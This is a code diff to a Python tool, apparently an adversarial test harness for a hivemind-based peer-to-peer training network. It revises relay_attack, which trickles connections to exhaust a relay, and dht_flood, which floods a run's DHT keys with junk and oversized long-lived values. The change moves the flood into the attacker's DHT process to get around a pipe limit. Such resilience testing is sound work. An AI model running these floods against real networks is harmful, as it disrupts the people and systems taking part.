@@ -20,6 +20,7 @@ import socket
 import sys
 import threading
 import time
+from functools import partial
 
 RUN_KEYS = ("peers", "links", "run", "plans", "progress", "beat")
 
@@ -120,6 +121,7 @@ def relay_attack(addr: str, target: str, seconds: float, trickle: int = 64, regi
             except OSError:
                 with lock:
                     out["trickle_cut"] += 1
+                time.sleep(0.2)  # then open another one
             finally:
                 s.close()
 
@@ -153,6 +155,7 @@ def relay_attack(addr: str, target: str, seconds: float, trickle: int = 64, regi
                 count("connect_answers", " ".join(answer.split()[1:2]) or "closed")
             except OSError:
                 count("connect_answers", "closed")
+            time.sleep(0.02)
 
     threads = [threading.Thread(target=trickler, daemon=True) for _ in range(trickle)]
     threads += [threading.Thread(target=registrar, daemon=True)]
@@ -192,32 +195,39 @@ def port_flood(addrs: list[str], count: int, seconds: float) -> dict:
 
 
 def dht_flood(initial_peer: str, run_id: str, untagged: int, oversized: int, value_bytes: int, seconds: float) -> dict:
-    """Store untagged subkeys and oversized, long-lived values under every key of the run, one store at a time
-    (hivemind's pipe to its DHT process refuses many in flight), until done or ``seconds`` have passed."""
+    """Store untagged subkeys and oversized, long-lived values under every key of the run until done or ``seconds``
+    have passed. The stores run inside the attacker's DHT process (hivemind's pipe to it breaks on large values)."""
     import hivemind
 
-    from peer.timing import now
-
-    stop = time.monotonic() + seconds
     dht = hivemind.DHT(initial_peers=[initial_peer], start=True, client_mode=False,
                        host_maddrs=["/ip4/0.0.0.0/tcp/0"])
-    stored = dict.fromkeys(("untagged", "oversized"), 0)
-    tried = dict.fromkeys(("untagged", "oversized"), 0)
-    keys = [f"{run_id}:{name}" for name in RUN_KEYS]
-    jobs = [("oversized", k, {"p": {"x": "y" * value_bytes}, "mac": None}, now() + 10**6, f"big{i}".encode())
-            for k in keys for i in range(oversized)]
-    jobs += [("untagged", k, {"p": {"x": i}, "mac": None}, now() + 3600, f"junk{i}".encode())
-             for i in range(untagged) for k in keys]
     try:
-        for kind, key, value, expires_at, subkey in jobs:
-            if time.monotonic() >= stop:
-                break
-            tried[kind] += 1
-            future = dht.store(key, value, expires_at, subkey=subkey, return_future=True)
-            with contextlib.suppress(Exception):
-                stored[kind] += bool(future.result(timeout=max(0.1, min(10.0, stop - time.monotonic()))))
+        keys = tuple(f"{run_id}:{name}" for name in RUN_KEYS)
+        job = partial(_flood_in_child, keys=keys, untagged=untagged, oversized=oversized, value_bytes=value_bytes,
+                      deadline=time.time() + seconds)
+        return dht.run_coroutine(job)
     finally:
         dht.shutdown()
+
+
+async def _flood_in_child(_dht: object, node: object, keys: tuple[str, ...], untagged: int, oversized: int,
+                          value_bytes: int, deadline: float) -> dict:
+    """Runs in the attacker's DHT process (module level: it is pickled there)."""
+    import asyncio
+
+    stored = dict.fromkeys(("untagged", "oversized"), 0)
+    tried = dict.fromkeys(("untagged", "oversized"), 0)
+    jobs = [("untagged", k, {"p": {"x": i}, "mac": None}, 3600.0, f"junk{i}".encode())
+            for i in range(untagged) for k in keys]
+    jobs += [("oversized", k, {"p": {"x": "y" * value_bytes}, "mac": None}, 10.0**6, f"big{i}".encode())
+             for k in keys for i in range(oversized)]
+    for kind, key, value, lifetime, subkey in jobs:
+        if time.time() >= deadline:
+            break
+        tried[kind] += 1
+        with contextlib.suppress(Exception):
+            ok = await asyncio.wait_for(node.store(key, value, time.time() + lifetime, subkey=subkey), 10.0)
+            stored[kind] += bool(ok)
     return {"stored": stored, "tried": tried}
 
 
@@ -229,7 +239,7 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--count", type=int, default=400)
     p.add_argument("--untagged", type=int, default=200)
     p.add_argument("--oversized", type=int, default=2)
-    p.add_argument("--value-bytes", type=int, default=1 << 20)
+    p.add_argument("--value-bytes", type=int, default=512 << 10)
     a = p.parse_args(argv)
     if a.kind == "relay":
         result = relay_attack(a.args[0], a.args[1], a.seconds)
